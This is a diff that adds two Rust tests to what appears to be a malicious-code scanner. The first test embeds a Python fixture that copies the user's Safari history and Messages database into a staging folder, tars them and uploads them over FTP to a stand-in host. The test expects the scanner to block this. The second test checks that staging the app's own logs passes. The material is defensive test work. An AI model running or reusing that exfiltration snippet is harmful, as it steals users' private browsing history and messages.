@@ -80,3 +80,23 @@ fn file_contents_sent_to_a_named_or_given_host_are_no_hidden_upload() {
     );
     assert!(!rules(&run(&joined)).contains(&"MB960"));
 }
+
+/// Browser and message stores named in a dict, copied into a staging
+/// folder, the folder tarred into a buffer kept on `self` and uploaded
+/// over FTP: the stores' contents are sent (fa425f5: LOW).
+#[test]
+fn stores_staged_in_a_folder_and_tarred_into_a_buffer_on_self_are_secrets_sent() {
+    let sync = "import ftplib, io, shutil, tarfile, tempfile\nfrom pathlib import Path\nLIB = Path.home() / 'Library'\nWANT = {'h': LIB / 'Safari' / 'History.db', 'm': LIB / 'Messages' / 'chat.db'}\nclass Box:\n    def __init__(self):\n        self.raw = io.BytesIO()\n        self.tar = tarfile.open(fileobj=self.raw, mode='w:gz')\n    def put(self, folder):\n        self.tar.add(folder)\n        self.tar.close()\n    def ship(self):\n        with ftplib.FTP('203.0.113.5') as f:\n            f.storbinary('STOR box', self.raw)\nwith tempfile.TemporaryDirectory() as t:\n    stage = Path(t)\n    for tag, src in WANT.items():\n        shutil.copy2(src, stage / tag)\n    b = Box()\n    b.put(stage)\n    b.ship()\n";
+    let a = run(sync);
+    assert!(rules(&a).contains(&"MB916"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Blocked);
+}
+
+/// The same staging of the app's own logs sends no secret.
+#[test]
+fn the_apps_own_logs_staged_and_tarred_are_no_secret() {
+    let sync = "import ftplib, io, shutil, tarfile, tempfile\nfrom pathlib import Path\nWANT = {'a': Path('/var/log/myapp/app.log'), 'b': Path('/var/log/myapp/err.log')}\nclass Box:\n    def __init__(self):\n        self.raw = io.BytesIO()\n        self.tar = tarfile.open(fileobj=self.raw, mode='w:gz')\n    def put(self, folder):\n        self.tar.add(folder)\n        self.tar.close()\n    def ship(self):\n        with ftplib.FTP('203.0.113.5') as f:\n            f.storbinary('STOR box', self.raw)\nwith tempfile.TemporaryDirectory() as t:\n    stage = Path(t)\n    for tag, src in WANT.items():\n        shutil.copy2(src, stage / tag)\n    b = Box()\n    b.put(stage)\n    b.ship()\n";
+    let a = run(sync);
+    assert!(!rules(&a).contains(&"MB916"), "{:?}", a.findings);
+    assert!(a.verdict < Verdict::High);
+}
